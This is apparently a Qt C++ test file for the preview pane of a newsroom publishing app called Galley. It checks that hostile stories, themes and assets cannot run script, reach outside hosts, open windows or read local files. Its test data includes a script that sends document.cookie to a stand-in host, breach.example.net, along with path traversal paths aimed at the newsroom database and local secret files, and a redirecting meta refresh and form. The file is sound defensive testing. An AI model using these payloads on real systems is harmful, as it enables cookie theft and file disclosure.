// SPDX-FileCopyrightText: The Galley authors
// SPDX-License-Identifier: Apache-2.0

#include "body/body.h"
#include "body/html.h"
#include "previewbench.h"
#include "support/hostilecases.h"
#include "support/sourcefolder.h"
#include "support/themefolder.h"
#include "support/verify.h"
#include "ui/common/style.h"
#include "ui/preview/siteaddress.h"

#include <QApplication>
#include <QDesktopServices>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QWebEngineProfile>
#include <QWebEngineScriptCollection>

using namespace Galley;
using namespace Qt::StringLiterals;

namespace {

/// Where all that the web engine asks of other hosts arrives. It answers nothing.
class Outside : public QObject
{
public:
    Outside()
    {
        if (!m_server.listen(QHostAddress::LocalHost))
            qFatal("no port for the proxy");
        // Before the web engine begins.
        qputenv("QTWEBENGINE_CHROMIUM_FLAGS",
                "--host-resolver-rules=\"MAP * 127.0.0.1:" + QByteArray::number(m_server.serverPort()) + "\"");
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            QTcpSocket *socket = m_server.nextPendingConnection();
            connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
                m_asked.append(QString::fromUtf8(socket->readAll().simplified().left(200)));
                socket->abort();
            });
            connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
        });
    }
    QStringList takeAsked() { return std::exchange(m_asked, {}); }

private:
    QTcpServer m_server;
    QStringList m_asked;
};

/// What hostile script calls leaves a mark that another world can see.
QWebEngineScript marks()
{
    QWebEngineScript script;
    script.setName(u"marks"_s);
    script.setWorldId(QWebEngineScript::MainWorld);
    script.setInjectionPoint(QWebEngineScript::DocumentCreation);
    script.setRunsOnSubFrames(true);
    script.setSourceCode(u"for (const name of ['galleyBreach', 'alert', 'confirm', 'prompt', 'print', 'open'])\n"
                         "    window[name] = () => document.documentElement.setAttribute('data-breach', name);\n"
                         "Object.defineProperty(window, '__breach', { set: () => window.galleyBreach() });"_s);
    return script;
}

/// One in twelve; with GALLEY_TEST_THOROUGH in the environment all.
QList<HostileCase> someOf(const QList<HostileCase> &cases)
{
    if (qEnvironmentVariableIsSet("GALLEY_TEST_THOROUGH"))
        return cases;
    QList<HostileCase> some;
    for (qsizetype i = 0; i < cases.size(); i += 12)
        some.append(cases.at(i));
    return some;
}

QString looking()
{
    static const QString script = [] {
        QFile file(sourceFolder(u"tests/hostile/look.js"_s));
        QString text = file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QString();
        // Where scripts are off nothing of a page is told of a frame, nor may it hold a click back: links are followed elsewhere.
        text.replace("requestAnimationFrame(done)"_L1, "done()"_L1);
        text.replace("element.click?.();"_L1, "if (!element.closest('a, area, form')) element.click?.();"_L1);
        return text;
    }();
    return script;
}

/// Fires every event at everything on @p page; says what is wrong with it.
QStringList looked(QWebEnginePage &page)
{
    const QString job = u"{own: 'galley://site/', policy: \".*\"}"_s;
    (void)ask(page, looking() + u"\nglobalThis.galleySaw = ''; galleyLook(%1).then(saw => { galleySaw = JSON.stringify(saw.faults); }, "
                              "error => { galleySaw = JSON.stringify([String(error)]); }); ''"_s.arg(job));
    QString saw;
    (void)QTest::qWaitFor([&] { return !(saw = ask(page, u"globalThis.galleySaw"_s)).isEmpty(); }, 10000);
    if (saw.isEmpty())
        return {u"could not be looked at"_s};
    QStringList faults;
    const QJsonArray all = QJsonDocument::fromJson(saw.toUtf8()).array();
    for (const QJsonValue &each : all)
        faults.append(each.toString());
    return faults;
}

} // namespace

/// Hostile stories and themes in the preview: nothing of theirs runs, nothing leaves, nothing else is read.
class PreviewHostileTest : public QObject
{
    Q_OBJECT

private:
    struct Bench : PreviewBench {
        Bench()
        {
            page().profile()->scripts()->insert(marks());
            QObject::connect(&page(), &QWebEnginePage::newWindowRequested, pane.get(), [this] { ++windows; });
            pane->show();
        }

        bool isBreached() const { return !ask(page(), u"document.documentElement.getAttribute('data-breach') || ''"_s).isEmpty(); }
        bool load(const QString &path)
        {
            QSignalSpy loaded(&page(), &QWebEnginePage::loadFinished);
            page().load(SiteAddress::url(path));
            return QTest::qWaitFor([&] { return !loaded.isEmpty(); }, 10000) && loaded.first().first().toBool();
        }

        int windows = 0;
    };

    Outside m_outside;
    QStringList m_opened; ///< in the system's browser

private Q_SLOTS:
    void initTestCase()
    {
        applyStyle(*qApp, Scheme::Light);
        for (const char *scheme : {"http", "https", "mailto"})
            QDesktopServices::setUrlHandler(QString::fromLatin1(scheme), this, "openUrl");
    }
    void cleanupTestCase()
    {
        for (const char *scheme : {"http", "https", "mailto"})
            QDesktopServices::unsetUrlHandler(QString::fromLatin1(scheme));
    }
    void openUrl(const QUrl &url) { m_opened.append(url.toString()); }

    /// The marks and the proxy see what a page does that nothing holds back.
    void aPageOfAnotherViewRunsAndAsks()
    {
        QWebEngineProfile profile;
        profile.scripts()->insert(marks());
        QWebEnginePage page(&profile);
        QSignalSpy loaded(&page, &QWebEnginePage::loadFinished);
        page.setHtml(u"<p onclick=\"galleyBreach('x')\">a<img src='http://breach.example.net/x'><script>galleyBreach('x')</script>"_s,
                     QUrl(u"http://site.example.net/"_s));
        QTRY_VERIFY_WITH_TIMEOUT(!loaded.isEmpty(), 10000);
        QCOMPARE(ask(page, u"document.documentElement.getAttribute('data-breach')"_s), u"galleyBreach"_s);
        QStringList outside;
        QTRY_VERIFY2((outside += m_outside.takeAsked()).join(u' ').contains(u"breach.example.net"_s), qPrintable(outside.join(u'\n')));
        QVERIFY(looked(page).join(u' ').contains(u"onclick"_s));
    }

    /// As a stranger's newsroom can hold them: nobody cleaned the body before it was stored.
    void storiesRunNothing()
    {
        Bench bench;
        QList<HostileCase> cases = hostileCases(u"html"_s);
        const QList<HostileCase> markdown = hostileCases(u"markdown"_s);
        for (const HostileCase &one : markdown) {
            if (const auto parsed = parseMarkdown(QString::fromUtf8(one.payload)))
                cases.append({one.name, toHtml(parsed->body).toUtf8()});
        }
        const Article written = bench.test.write(u"稿件"_s);
        QSignalSpy shown(bench.pane.get(), &PreviewPane::shown);
        QStringList faults;
        int tried = 0;
        for (const HostileCase &one : someOf(cases)) {
            Article article = written;
            article.body = u"<p>Here stands %1.</p>\n"_s.arg(one.name) + QString::fromUtf8(one.payload);
            // Brought up to date in place, as while somebody types, and then loaded anew.
            shown.clear();
            bench.story.open(article, [article] { return article.body; });
            const auto isThere = [&] {
                return ask(bench.page(), u"document.body ? document.body.innerText : ''"_s).contains(u"Here stands %1."_s.arg(one.name));
            };
            if (!QTest::qWaitFor([&] { return !shown.isEmpty() && isThere(); }, 10000) || bench.isBreached()
                || !bench.load(SiteAddress::path(bench.page().url())) || !QTest::qWaitFor(isThere, 10000)) {
                faults.append(one.name + ": does not come up, or ran"_L1);
                continue;
            }
            ++tried;
            for (const QString &fault : looked(bench.page()))
                faults.append(one.name + ": "_L1 + fault);
            if (bench.isBreached())
                faults.append(one.name + ": ran"_L1);
        }
        faults += m_outside.takeAsked();
        QVERIFY2(faults.isEmpty(), qPrintable(faults.join(u'\n')));
        QCOMPARE(bench.windows, 0);
        QCOMPARE(m_opened, QStringList());
        qInfo("%d of %d stories", tried, int(cases.size()));
        QCOMPARE(tried, int(someOf(cases).size()));
    }

    /// A theme writes pages as it likes; nothing cleans them.
    void themesRunNothing()
    {
        Bench bench;
        const QString folder = makeOwnTheme(*bench.test.newsroom);
        GALLEY_VERIFY(bench.test.newsroom->themes().choose(u"own"_s));
        QStringList faults;
        int tried = 0;
        int number = 0;
        const QList<HostileCase> cases = hostileCases(u"html"_s);
        for (const HostileCase &one : someOf(cases)) {
            QByteArray payload = one.payload;
            payload.replace("{{", "{ {");
            // A head as it is, one that is written in another way, and none.
            static const std::array<QByteArray, 3> heads{"<!doctype html><html><head>", "<html><HEAD >", ""};
            const QByteArray mark = "<i id=\"n" + QByteArray::number(++number) + "\"></i>";
            if (!writeText(folder + u"/layout.mustache"_s, heads.at(size_t(number) % heads.size()) + mark + "{{{content}}}" + payload))
                QFAIL("the theme was not written");
            bench.preview.invalidate();
            if (!bench.load({}) || ask(bench.page(), u"String(!!document.getElementById('n%1'))"_s.arg(number)) != "true"_L1)
                continue; // refused as a template
            ++tried;
            (void)looked(bench.page()); // fires the events
            if (bench.isBreached())
                faults.append(one.name + ": ran"_L1);
            if (!SiteAddress::isOurs(bench.page().url()))
                faults.append(one.name + ": led to "_L1 + bench.page().url().toString());
        }
        faults += m_outside.takeAsked();
        QVERIFY2(faults.isEmpty(), qPrintable(faults.join(u'\n')));
        QCOMPARE(bench.windows, 0);
        QCOMPARE(m_opened, QStringList());
        qInfo("%d of %d as a theme's page", tried, int(cases.size()));
        QVERIFY(tried > someOf(cases).size() * 3 / 4);
    }

    /// What is no page is opened like one: a drawing with a script in it.
    void assetsRunNothing()
    {
        Bench bench;
        const QString folder = makeOwnTheme(*bench.test.newsroom);
        const QByteArray script = "document.documentElement.setAttribute('data-breach', 'x');"
                                  "location = 'https://breach.example.net/' + document.cookie";
        writeText(folder + u"/assets/drawing.svg"_s, "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>" + script + "</script></svg>");
        writeText(folder + u"/assets/page.xhtml"_s, "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>" + script + "</script></html>");
        writeText(folder + u"/assets/page.html"_s, "<script>" + script + "</script>");
        writeText(folder + u"/assets/page.xml"_s,
                  "<?xml-stylesheet type=\"text/xsl\" href=\"#s\"?><x xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:script>" + script + "</h:script></x>");
        GALLEY_VERIFY(bench.test.newsroom->themes().choose(u"own"_s));
        QVERIFY(bench.load({}));
        for (const QString &name : {u"drawing.svg"_s, u"page.xhtml"_s, u"page.html"_s, u"page.xml"_s}) {
            (void)bench.load(u"assets/"_s + name);
            QTest::qWait(100);
            QVERIFY2(!bench.isBreached(), qPrintable(name));
            QVERIFY(SiteAddress::isOurs(bench.page().url()));
        }
        QCOMPARE(m_outside.takeAsked(), QStringList());
        QCOMPARE(m_opened, QStringList());
    }

    void readsNoFileOfThisComputer()
    {
        Bench bench;
        const QString picture = bench.test.folder.filePath(u"secret.png"_s);
        QImage image(40, 30, QImage::Format_RGB32);
        image.fill(Qt::red);
        QVERIFY(image.save(picture));
        const QString style = bench.test.folder.filePath(u"secret.css"_s);
        writeText(style, "body{color:rgb(1,2,3)}");
        const QByteArray address = QUrl::fromLocalFile(picture).toEncoded();
        const QString folder = makeOwnTheme(*bench.test.newsroom);
        writeText(folder + u"/layout.mustache"_s,
                  "<html><head><link rel=\"stylesheet\" href=\"" + QUrl::fromLocalFile(style).toEncoded()
                      + "\"></head><body>{{{content}}}<img src=\"" + address + "\"><img src=\"/../secret.png\"><img src=\"/%2e%2e/%2e%2e/secret.png\">"
                        "<iframe src=\"" + address + "\"></iframe><object data=\"" + address + "\"></object><embed src=\"" + address
                      + "\"><video src=\"" + address + "\"></video><a id=\"away\" href=\"" + address + "\">a</a></body></html>");
        GALLEY_VERIFY(bench.test.newsroom->themes().choose(u"own"_s));
        bench.preview.invalidate();
        QVERIFY(bench.load({}));
        QTest::qWait(300);
        QCOMPARE(ask(bench.page(), u"[...document.images].map(i => i.naturalWidth).join()"_s), u"0,0,0"_s);
        QVERIFY(ask(bench.page(), u"getComputedStyle(document.body).color"_s) != "rgb(1, 2, 3)"_L1);
        QCOMPARE(ask(bench.page(), u"[...document.querySelectorAll('iframe,object,embed')].filter(f => f.contentDocument && "
                                     "f.contentDocument.images.length).length + ''"_s), u"0"_s);
        (void)ask(bench.page(), u"document.getElementById('away').click(); ''"_s);
        QTest::qWait(200);
        QVERIFY(SiteAddress::isOurs(bench.page().url()));
        // Nor what lies beside the pages in the newsroom's own folder.
        for (const QString &path : {u"newsroom.sqlite3"_s, u"../newsroom.sqlite3"_s, u"media/../newsroom.sqlite3"_s, u"assets/../../../newsroom.sqlite3"_s,
                                    picture.mid(1), u"/"_s + picture}) {
            (void)bench.load(path); // the page that says that there is none
            QVERIFY2(!ask(bench.page(), u"document.documentElement.innerText"_s).contains("SQLite format"_L1), qPrintable(path));
            QCOMPARE(ask(bench.page(), u"[...document.images].filter(i => i.naturalWidth > 0).length + ''"_s), u"0"_s);
        }
    }

    void opensNoWindowAndGoesNowhere()
    {
        Bench bench;
        const QString folder = makeOwnTheme(*bench.test.newsroom);
        writeText(folder + u"/layout.mustache"_s,
                  "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://breach.example.net/refresh\"></head><body>{{{content}}}"
                  "<a id=\"window\" target=\"_blank\" href=\"/404.html\">a</a><form id=\"form\" action=\"https://breach.example.net/form\"></form></body></html>");
        GALLEY_VERIFY(bench.test.newsroom->themes().choose(u"own"_s));
        bench.preview.invalidate();
        const auto widgets = QApplication::topLevelWidgets().size();
        QVERIFY(bench.load({}));
        (void)ask(bench.page(), u"document.getElementById('window').click(); document.getElementById('form').submit(); ''"_s);
        QTest::qWait(1500);
        QVERIFY(SiteAddress::isOurs(bench.page().url()));
        QCOMPARE(QApplication::topLevelWidgets().size(), widgets);
        QCOMPARE(m_outside.takeAsked(), QStringList());
        QCOMPARE(m_opened, QStringList());
    }
};

int main(int argc, char *argv[])
{
    SiteAddress::registerScheme();
    QApplication application(argc, argv);
    qputenv("QTEST_FUNCTION_TIMEOUT", "1200000"); // hundreds of pages
    PreviewHostileTest test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_previewhostile.moc"
